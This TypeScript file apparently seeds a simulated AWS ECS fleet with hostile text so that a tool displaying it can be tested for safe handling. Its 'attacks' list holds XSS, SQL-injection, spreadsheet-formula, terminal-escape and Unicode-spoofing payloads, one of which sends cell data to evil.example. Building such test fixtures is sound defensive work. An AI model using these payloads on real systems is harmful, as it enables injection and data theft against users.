import { handlers as ecs } from '../services/ecs/index'
import { appendLog, ensureGroup } from '../services/logs/state'
import { ping, pingOnce } from '../world/agent'
import { wake } from '../world/log-lines'
import type { Region } from '../world/region'
import { plantEvents } from './events'
import { network } from './network'
import { plantRoles } from './roles'
import { addActivation, callerOf, HOUR, MINUTE, stand } from './tools'

/** Text that attacks whoever shows it, for fields that take any text. */
export const attacks: readonly string[] = [
  '<script>window.attacked = true</script>',
  '"><img src=x onerror="window.attacked=true">',
  "'; DROP TABLE facts; --",
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  'user\u202egpj.exe\u202c \u2066hidden\u2069',
  '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u001b[2J',
  'null\u0000 bell\u0007 backspace\u0008 tab\t return\r feed\u000c',
  'javascript:alert(1)//`{{7*7}}`',
  '{"level":"error","msg":"</script><script>window.attacked = true</script>"}',
  'Z\u0351\u036b\u0343\u036a\u0302a\u034a\u0304l\u0310g\u0308o\u034b \u{1f468}\u200d\u{1f469}\u200d\u{1f467} \ufeff\u200b\u00ad',
  'lone \ud800 surrogate',
  `long ${'x'.repeat(8_000)}`,
]

/** Letters, signs and spaces alone are allowed in tags: https://docs.aws.amazon.com/AmazonECS/latest/APIReference/API_Tag.html */
const tags = {
  '=1+1': '=1+1',
  '@x': '@SUM/1+1',
  '-2': '-2+3',
  __proto__: 'constructor',
  '\u05e9\u05dc\u05d5\u05dd': '\u0645\u0631\u062d\u0628\u0627 abc \u0645\u0631\u062d\u0628\u0627',
  'line\u2028break': 'a\u2028b\u2029c\u3000d\u00a0e',
  long: 'W'.repeat(256),
}

/** A small fleet whose every name, tag, reason and log line attacks, as far as AWS lets that field. */
export function hostile(region: Region): void {
  const { clock } = region
  const now = clock.now()
  clock.startAt(now - 2 * HOUR)
  region.ecs.quiet = true
  const caller = callerOf(region)
  network(region)
  plantRoles(region)
  const list = Object.entries(tags).map(([key, value]) => ({ key, value }))
  for (const clusterName of ['x__proto__', 'constructor', `c${'-'.repeat(254)}`])
    ecs.CreateCluster?.({ clusterName, tags: list }, region, caller)
  const activation = addActivation(region, { description: attacks[0] ?? '', limit: 6 })
  for (const [index, name] of ['=1+1', '@SUM/1+1', '\u202fpi', '\u05e9\u05e8\u05ea 1', 'W'.repeat(256), '-1'].entries())
    stand(region, {
      cluster: 'constructor',
      activation,
      name,
      // What a machine calls itself is what somebody typed into it
      computerName: attacks[index] ?? '',
      attributes: { site: ['=1+1', '@x', '-5', '__proto__'][index % 4] ?? '' },
      tags,
    })
  clock.advanceTo(clock.now() + MINUTE)
  plantTasks(region)
  clock.advanceTo(now - 10 * MINUTE)
  stopSome(region)
  clock.advanceTo(now)
  plantEvents(region)
  pingOnce(region)
  wake(region)
  shout(region)
  ping(region)
}

const GROUP = '/hostile/__proto__'

function plantTasks(region: Region): void {
  const caller = callerOf(region)
  ensureGroup(region, GROUP)
  ecs.RegisterTaskDefinition?.(
    {
      family: '__proto__',
      requiresCompatibilities: ['EXTERNAL'],
      networkMode: 'bridge',
      tags: Object.entries(tags).map(([key, value]) => ({ key, value })),
      containerDefinitions: [
        {
          name: '__proto__',
          image: 'registry.example/hostile:1',
          cpu: 64,
          memory: 64,
          command: [...attacks],
          environment: attacks.map((value, index) => ({ name: `A${index}`, value })),
          dockerLabels: Object.fromEntries(attacks.map((text, index) => [`${index} ${text.slice(0, 100)}`, text])),
          logConfiguration: {
            logDriver: 'awslogs',
            options: {
              'awslogs-group': GROUP,
              'awslogs-region': region.region,
              'awslogs-stream-prefix': '<img src=x onerror=window.attacked=true>',
            },
          },
        },
      ],
    },
    region,
    caller,
  )
  ecs.CreateService?.(
    {
      cluster: 'constructor',
      serviceName: '__proto__',
      taskDefinition: '__proto__',
      desiredCount: 4,
      launchType: 'EXTERNAL',
      tags: Object.entries(tags).map(([key, value]) => ({ key, value })),
    },
    region,
    caller,
  )
  for (const value of attacks)
    ecs.RunTask?.(
      {
        cluster: 'constructor',
        taskDefinition: '__proto__',
        launchType: 'EXTERNAL',
        group: value.slice(0, 200),
        overrides: {
          containerOverrides: [{ name: '__proto__', environment: [{ name: 'ATTACK', value: value.slice(0, 2_000) }] }],
        },
      },
      region,
      caller,
    )
}

/** A stop takes any reason of up to 1,024 characters. */
function stopSome(region: Region): void {
  const cluster = region.ecs.clusters.get('constructor')
  const alone = [...(cluster?.tasks.values() ?? [])].filter((task) => !task.service)
  for (const [index, task] of alone.entries())
    if (index % 2 === 0)
      ecs.StopTask?.(
        { cluster: 'constructor', task: task.id, reason: (attacks[index % attacks.length] ?? '').slice(0, 1_024) },
        region,
        callerOf(region),
      )
}

/** Its containers write every attack there is. */
function shout(region: Region): void {
  const group = region.logs.groups.get(GROUP)
  for (const stream of group?.streams.keys() ?? [])
    for (const [index, text] of attacks.entries())
      appendLog(region, GROUP, stream, region.clock.now() - (attacks.length - index) * 1_000, text)
}
